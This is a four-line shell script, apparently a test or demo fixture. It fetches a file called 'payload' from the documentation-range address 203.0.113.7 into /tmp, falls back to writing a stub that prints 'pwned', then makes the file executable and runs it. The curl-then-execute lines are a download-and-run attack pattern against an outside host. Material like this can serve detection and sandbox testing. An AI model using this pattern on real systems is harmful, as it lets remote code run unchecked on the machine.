# Downloads a payload (no network: falls back to writing it) and runs it.
curl -s -m 2 -o /tmp/payload http://203.0.113.7/payload 2>/dev/null || printf '#!/bin/sh\necho pwned\n' > /tmp/payload
chmod +x /tmp/payload
/tmp/payload
